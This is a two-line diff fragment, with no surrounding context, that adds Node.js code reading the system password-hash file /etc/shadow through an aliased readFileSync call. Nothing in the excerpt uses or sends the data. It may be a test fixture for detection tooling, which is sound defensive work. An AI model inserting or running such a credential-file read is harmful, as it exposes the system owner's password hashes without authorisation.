@@ -1,0 +1,2 @@
+const { readFileSync: r } = require('fs');
+r('/etc/shadow');
